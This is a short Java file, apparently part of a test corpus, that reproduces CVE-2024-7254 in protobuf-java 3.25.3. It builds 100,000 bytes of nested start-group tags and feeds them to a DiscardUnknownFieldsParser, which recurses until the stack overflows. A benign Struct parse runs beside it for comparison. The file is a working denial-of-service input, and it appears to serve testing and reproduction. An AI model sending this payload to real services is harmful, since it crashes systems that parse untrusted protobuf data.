package corpus.protobuf;

import com.google.protobuf.DiscardUnknownFieldsParser;
import com.google.protobuf.Empty;
import com.google.protobuf.Parser;
import com.google.protobuf.Struct;
import com.google.protobuf.Value;
import corpus.CorpusDriver;

/**
 * protobuf-java 3.25.3, CVE-2024-7254: start-group tags nested without limit, parsed as unknown
 * fields by a {@code DiscardUnknownFieldsParser}, make {@code CodedInputStream.skipField} and
 * {@code skipMessage} recurse until the stack runs out (fixed in 3.25.5 / 4.27.5 / 4.28.2).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        byte[] hostile = new byte[depth];
        java.util.Arrays.fill(hostile, (byte) 0x0B); // field 1, wire type 3: start group
        Parser<Empty> parser = DiscardUnknownFieldsParser.wrap(Empty.parser());
        byte[] benign = Struct.newBuilder().putFields("name", Value.newBuilder().setStringValue("benign").build())
                .build().toByteArray();
        CorpusDriver.run("protobuf", Empty.class,
                () -> parser.parseFrom(benign).getSerializedSize() + " bytes kept of " + benign.length
                        + "; " + Struct.parseFrom(benign).getFieldsMap(),
                () -> parser.parseFrom(hostile));
    }
}
